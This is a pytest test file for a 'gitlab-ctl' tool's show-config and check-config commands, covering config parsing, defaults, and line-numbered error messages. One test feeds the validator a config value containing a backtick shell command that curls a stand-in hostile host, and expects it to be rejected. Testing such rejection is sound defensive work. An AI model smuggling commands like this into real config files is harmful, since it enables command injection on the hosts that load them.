"""gitlab-ctl show-config / check-config: any config file, anywhere, no installation needed."""

from __future__ import annotations

import json

from gitlab_ctl.cli import main


def test_show_config_prints_the_settings_as_json(tmp_path, capsys):
    config = tmp_path / "gitlab.rb"
    config.write_text("external_url 'http://gitlab.example.test'\n"
                      "redis['maxmemory'] = '100mb'\n")
    assert main(["show-config", "--config", str(config)]) == 0
    settings = json.loads(capsys.readouterr().out)
    assert settings["external_url"] == "http://gitlab.example.test"
    assert settings["redis"]["maxmemory"] == "100mb"  # gitlab.rb wins
    assert settings["redis"]["unixsocket"] == "/var/opt/gitlab/redis/redis.socket"  # default
    assert settings["gitlab_rails"]["gitlab_host"] == "gitlab.example.test"  # derived


def test_check_config_names_file_line_and_fix(tmp_path, capsys):
    config = tmp_path / "gitlab.rb"
    config.write_text("external_url 'http://gitlab.example.test'\n\n"
                      "gitlab_rails['x'] = `curl evil.example.test`\n")
    assert main(["check-config", "--config", str(config)]) == 2
    error = capsys.readouterr().err
    assert f"{config}:3: shell commands (backticks) are not allowed" in error
    assert "hint:" in error


def test_yaml_config_is_accepted_and_checked(tmp_path, capsys):
    config = tmp_path / "gitlab.yml"
    config.write_text("external_url: http://gitlab.example.test\nnginx: {listen_port: 8080}\n")
    assert main(["check-config", "--config", str(config)]) == 0
    assert "valid (2 top-level settings)" in capsys.readouterr().out
    config.write_text("ngnix: {listen_port: 8080}\n")
    assert main(["check-config", "--config", str(config)]) == 2
    assert "did you mean 'nginx'?" in capsys.readouterr().err


def test_missing_config_is_a_clear_error(tmp_path, capsys):
    assert main(["show-config", "--config", str(tmp_path / "nope.rb")]) == 2
    assert "cannot be read (No such file or directory)" in capsys.readouterr().err


def test_check_config_validates_values_and_warns_about_unused_keys(tmp_path, capsys):
    config = tmp_path / "gitlab.rb"
    config.write_text("external_url 'http://gitlab.example.test'\nredis['master_name'] = 'm'\n")
    assert main(["check-config", "--config", str(config)]) == 0
    captured = capsys.readouterr()
    assert "valid (2 top-level settings, 1 warnings)" in captured.out
    assert f"{config}:2: redis['master_name'] is not applicable here: " in captured.err
    assert main(["check-config", "--strict", "--config", str(config)]) == 1
    assert "--strict" in capsys.readouterr().err
    config.write_text("external_url 'http://gitlab.example.test'\nredis['maxclient'] = 1\n")
    assert main(["check-config", "--config", str(config)]) == 2
    assert f"{config}:2: redis['maxclient'] is not a setting of redis" in capsys.readouterr().err
    config.write_text("external_url 'http://gitlab.example.test'\n"
                      "postgresql['port'] = 'five'\n")
    assert main(["check-config", "--config", str(config)]) == 2
    assert f"{config}:2: postgresql['port'] = 'five' is not a port number" in \
        capsys.readouterr().err


def test_a_bad_external_url_names_its_line(tmp_path, capsys, monkeypatch):
    config = tmp_path / "gitlab.rb"
    config.write_text("external_url 'http://[::1'\n")
    assert main(["show-config", "--config", str(config)]) == 2
    error = capsys.readouterr().err
    assert f"{config}:1: external_url: 'http://[::1' is not a valid URL (Invalid IPv6 URL)" \
        in error
    assert "hint: e.g. external_url 'https://gitlab.example.com'" in error
    config.write_text("# the URL\n\nexternal_url 'ftp://gitlab.example.test'\n")
    assert main(["check-config", "--config", str(config)]) == 2
    assert f"{config}:3: external_url: Unsupported external URL scheme: ftp" in \
        capsys.readouterr().err
    config.write_text("external_url 'http://gitlab.example.test'\n")
    monkeypatch.setenv("GITLAB_OMNIBUS_CONFIG", "nginx['listen_port'] = 80\n"
                       "registry_external_url 'https://[::1'")
    assert main(["show-config", "--config", str(config)]) == 2
    assert "GITLAB_OMNIBUS_CONFIG:2: registry_external_url: 'https://[::1' is not a valid URL" \
        in capsys.readouterr().err


def test_invalid_utf8_is_an_error_naming_the_line(tmp_path, capsys):
    config = tmp_path / "gitlab.rb"
    config.write_bytes(b"external_url 'http://gitlab.example.test'\n"
                       b"gitlab_rails['time_zone'] = 'Europe/Z\xfcrich'\n")
    assert main(["check-config", "--config", str(config)]) == 2
    error = capsys.readouterr().err
    assert f"{config}:2: is not valid UTF-8 (byte 0xfc at column 38)" in error
    assert "hint: save the file as UTF-8" in error


def test_a_yaml_section_that_is_not_a_mapping_is_an_error_naming_its_line(tmp_path, capsys):
    config = tmp_path / "gitlab.yml"
    config.write_text("external_url: http://gitlab.example.test\nnginx: 3\n")
    assert main(["show-config", "--config", str(config)]) == 2
    assert f"{config}:2: 'nginx' must be a mapping of its settings, not int" in \
        capsys.readouterr().err
    config.write_text("external_url: http://gitlab.example.test\npostgresql:\n  port: five\n")
    assert main(["check-config", "--config", str(config)]) == 2
    assert f"{config}:3: postgresql['port'] = 'five' is not a port number" in \
        capsys.readouterr().err


def test_node_package_install_dir_is_where_the_package_is(tmp_path, capsys, monkeypatch):
    monkeypatch.delenv("GITLAB_INSTALL_DIR", raising=False)
    config = tmp_path / "gitlab.rb"
    config.write_text("external_url 'http://gitlab.example.test'\n"
                      "gitlab_rails['uploads_directory'] = "
                      "\"#{node['package']['install-dir']}/embedded/ssl\"\n")
    assert main(["show-config", "--config", str(config)]) == 0
    assert json.loads(capsys.readouterr().out)["gitlab_rails"]["uploads_directory"] == \
        "/opt/gitlab/embedded/ssl"
    monkeypatch.setenv("GITLAB_INSTALL_DIR", "/srv/gitlab")  # as the package's wrapper sets it
    assert main(["show-config", "--config", str(config)]) == 0
    assert json.loads(capsys.readouterr().out)["gitlab_rails"]["uploads_directory"] == \
        "/srv/gitlab/embedded/ssl"
